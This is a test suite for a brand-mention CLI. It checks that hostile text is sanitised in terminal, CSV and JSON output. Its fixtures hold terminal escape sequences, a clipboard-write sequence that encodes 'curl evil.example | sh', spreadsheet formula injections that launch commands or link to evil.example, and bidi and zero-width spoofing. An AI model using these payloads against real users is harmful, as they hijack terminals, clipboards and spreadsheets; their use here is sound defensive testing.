/**
 * Hostile text end to end: mentions whose text, author, title and URL carry terminal escapes (CSI, OSC 8 links,
 * OSC 52 clipboard writes, 8-bit C1), bidi overrides and isolates, zero-width characters, a 1 MB line, invalid
 * UTF-8 and spreadsheet formulas. The table on stdout/stderr (piped and on a real pseudo-terminal) carries none of
 * them; CSV cells are formula-neutralised unless --raw-csv; JSON keeps the data exactly. Plus a property test of
 * the sanitiser itself.
 */
import { spawn } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { oneLine, stripControl } from '../../src/core/sanitize.js';
import type { Report } from '../../src/core/report.js';
import { params } from '../fuzz/fuzz-settings.js';
import { ROOT, runCli } from '../helpers/run-cli.js';

const ESC = '\u001b';
const LONG = 'A'.repeat(1024 * 1024);
const RECORDS = [
  { id: 'x:1', text: `Acme Cloud ${ESC}[31mis down${ESC}[0m again, why no answer? ${ESC}[2J${ESC}[H`, author: { handle: `${ESC}]8;;https://evil.example${ESC}\\mallory${ESC}]8;;${ESC}\\` }, url: 'https://forum.example/t/1' },
  { id: 'x:2', text: `Acme Cloud billing is broken ${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007 please help?`, author: { handle: 'eve\u202eexe.gnp' }, title: '\u2066Refund\u2069 \u061cnow' },
  { id: 'x:3', text: 'Why is Acme Cloud so slow?\u200d\u200b\u2060 \u009b31m C1 CSI \u0085 NEL \u0007 bell \u200e\u200f', author: { handle: 'zw\u200bj\ufeff' } },
  { id: 'x:4', text: "=cmd|' /C calc'!A0 Acme Cloud support never replies?", author: { handle: '+SUM(1,1)' }, title: '@HYPERLINK("http://evil.example","x")' },
  { id: 'x:5', text: '-2+3 Acme Cloud lost my data, anyone?', author: { handle: '\tTAB' }, title: '\rCR' },
  { id: 'x:6', text: `Acme Cloud outage ${LONG} still waiting for support?`, author: { handle: 'longline' } },
].map((r) => ({ source: 'forum', createdAt: '2026-11-20T10:00:00Z', brand: 'Acme Cloud', ...r }));
// Invalid UTF-8 (a lone 0xff, an overlong 0xc0, a truncated 0xc3) inside JSON strings.
const BAD_UTF8 = Buffer.concat([
  Buffer.from('{"id":"x:7","source":"forum","createdAt":"2026-11-20T11:00:00Z","brand":"Acme Cloud","text":"Acme Cloud broke '),
  Buffer.from([0xff, 0xc3]),
  Buffer.from(' my site, help?","author":{"handle":"bytes'),
  Buffer.from([0xff, 0xc0]),
  Buffer.from('"}}\n'),
]);

// Nothing of these may reach a terminal: ESC (any sequence), BEL, C1 controls, bidi controls, zero-width characters.
const FORBIDDEN = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u061c\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff]/u;
const describeChar = (s: string): string => {
  const m = FORBIDDEN.exec(s);
  return m ? `U+${m[0].codePointAt(0)!.toString(16).padStart(4, '0')} near ${JSON.stringify(s.slice(Math.max(0, m.index - 20), m.index + 20))}` : 'none';
};

let dir = '';
let input = '';
const NOW = ['--now', '2026-11-23T09:00:00Z'];

beforeAll(() => {
  dir = mkdtempSync(join(tmpdir(), 'earshot-hostile-'));
  input = join(dir, 'hostile.ndjson');
  writeFileSync(input, Buffer.concat([Buffer.from(`${RECORDS.map((r) => JSON.stringify(r)).join('\n')}\n`, 'utf8'), BAD_UTF8]));
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));

describe('hostile text on the terminal', () => {
  it('the table (piped) carries no escape, control, bidi or zero-width character, and no giant line', async () => {
    const r = await runCli(['analyze', input, ...NOW]);
    expect(r.code).toBe(0);
    expect(describeChar(r.stdout)).toBe('none');
    expect(describeChar(r.stderr)).toBe('none');
    // The readable part of each hostile mention survives.
    for (const visible of ['Acme Cloud is down again, why no answer?', 'Refund now', 'eveexe.gnp', 'mallory', 'Why is Acme Cloud so slow?', 'zwj']) expect(r.stdout).toContain(visible);
    expect(r.stdout).toContain('\uFFFD'); // invalid bytes shown as replacement characters, not passed through
    expect(r.stdout.length).toBeLessThan(64 * 1024);
    for (const line of r.stdout.split('\n')) expect([...line].length).toBeLessThanOrEqual(200);
  });

  it('on a real pseudo-terminal (colour on) the only escape sequences are earshot\'s own SGR colours', async () => {
    // `script` gives the CLI a TTY on stdout and stderr, the case where colour and progress output are enabled.
    const cmd = [process.execPath, join(ROOT, 'bin/earshot.js'), 'analyze', input, ...NOW].map((a) => `'${a.replace(/'/g, "'\\''")}'`).join(' ');
    const out = await new Promise<{ code: number | null; text: string }>((resolve, reject) => {
      const child = spawn('script', ['-qec', cmd, '/dev/null'], { env: { PATH: process.env.PATH ?? '', HOME: dir, TZ: 'UTC', TERM: 'xterm-256color' }, stdio: ['ignore', 'pipe', 'pipe'] });
      let text = '';
      child.stdout.setEncoding('utf8').on('data', (d: string) => (text += d));
      child.stderr.setEncoding('utf8').on('data', (d: string) => (text += d));
      child.on('error', reject);
      child.on('close', (code) => resolve({ code, text }));
    });
    expect(out.code).toBe(0);
    expect(out.text).toMatch(/\u001b\[[0-9;]*m/); // colour really was on
    const withoutSgr = out.text.replace(/\u001b\[[0-9;]*m/g, '').replace(/\r\n/g, '\n');
    expect(describeChar(withoutSgr)).toBe('none');
    expect(withoutSgr).toContain('Acme Cloud is down again, why no answer?');
  }, 30_000);
});

describe('hostile text in CSV and JSON files', () => {
  const rowsOf = (csv: string): Record<string, string>[] => parse(csv, { columns: true, relax_column_count: false }) as Record<string, string>[];

  it('CSV neutralises formulas in user-written cells by default; --raw-csv writes them as they came', async () => {
    const safe = await runCli(['analyze', input, ...NOW, '-f', 'csv']);
    const raw = await runCli(['analyze', input, ...NOW, '-f', 'csv', '--raw-csv']);
    expect(safe.code).toBe(0);
    expect(raw.code).toBe(0);
    const s = new Map(rowsOf(safe.stdout).map((r) => [r['id'], r]));
    const w = new Map(rowsOf(raw.stdout).map((r) => [r['id'], r]));
    expect(s.get('x:4')).toMatchObject({ text: "'=cmd|' /C calc'!A0 Acme Cloud support never replies?", author_handle: "'+SUM(1,1)", title: '\'@HYPERLINK("http://evil.example","x")' });
    expect(s.get('x:5')).toMatchObject({ text: "'-2+3 Acme Cloud lost my data, anyone?", author_handle: "'\tTAB", title: "'\rCR" });
    expect(w.get('x:4')).toMatchObject({ text: "=cmd|' /C calc'!A0 Acme Cloud support never replies?", author_handle: '+SUM(1,1)', title: '@HYPERLINK("http://evil.example","x")' });
    expect(w.get('x:5')).toMatchObject({ text: '-2+3 Acme Cloud lost my data, anyone?', author_handle: '\tTAB', title: '\rCR' });
    // No user-written cell of the default CSV starts like a formula.
    for (const row of s.values()) for (const col of ['text', 'title', 'author_handle', 'author_name', 'url']) expect(row[col] ?? '', `${row['id']}.${col}`).not.toMatch(/^[=+\-@\t\r]/);
    // The 1 MB text is a cell, whole, not a broken record.
    expect(s.get('x:6')!['text']).toHaveLength(RECORDS[5]!.text.length);
    expect(describeChar(safe.stderr)).toBe('none');
  });

  it('JSON keeps every hostile string exactly (escaped by JSON, not altered)', async () => {
    const r = await runCli(['analyze', input, ...NOW, '-f', 'json']);
    expect(r.code).toBe(0);
    // JSON escapes C0 controls: no raw ESC or BEL in the bytes.
    expect(r.stdout).not.toMatch(/[\u0000-\u001f](?<!\n)/);
    const report = JSON.parse(r.stdout) as Report;
    const byId = new Map(report.mentions.map((m) => [m.id, m]));
    for (const rec of RECORDS) {
      const m = byId.get(rec.id)!;
      expect(m.text, rec.id).toBe(rec.text);
      expect(m.author.handle, rec.id).toBe(rec.author.handle);
      if ('title' in rec) expect(m.title, rec.id).toBe(rec.title);
    }
    expect(byId.get('x:7')!.text).toBe('Acme Cloud broke \uFFFD\uFFFD my site, help?');
  });
});

describe('sanitiser properties', () => {
  const PIECES = [
    `${ESC}[31m`, `${ESC}[2J`, `${ESC}]8;;https://x.example${ESC}\\`, `${ESC}]52;c;AAAA\u0007`, `${ESC}P1$r${ESC}\\`, `${ESC}`, `${ESC}[`, `${ESC}]`, '\u009b31m', '\u009d0;t\u009c',
    '\u0007', '\u0000', '\u007f', '\u0085', '\u202e', '\u202a', '\u2066', '\u2069', '\u061c', '\u200b', '\u200d', '\u2060', '\ufeff', '\r', '\n', '\t', 'a', 'é', '😀', ' ',
  ];
  const hostile = fc.array(fc.oneof(fc.constantFrom(...PIECES), fc.string({ maxLength: 6 }), fc.string({ unit: 'binary', maxLength: 4 })), { maxLength: 40 }).map((xs) => xs.join(''));

  it('stripControl and oneLine leave nothing a terminal would act on, and are idempotent', () => {
    fc.assert(
      fc.property(hostile, (s) => {
        const a = stripControl(s);
        const b = oneLine(s);
        expect(describeChar(a.replace(/[\n\t]/g, ''))).toBe('none');
        expect(describeChar(b)).toBe('none');
        expect(b).not.toMatch(/[\n\r\t]/);
        expect(stripControl(a)).toBe(a);
        expect(oneLine(b)).toBe(b);
      }),
      params(),
    );
  });

  it('ordinary text passes through unchanged', () => {
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom(...'abcXYZ 019.,;:!?()[]{}\'"éüß中文😀-_/'.split('')), maxLength: 60 }), (s) => {
        expect(stripControl(s)).toBe(s);
      }),
      params(),
    );
  });
});
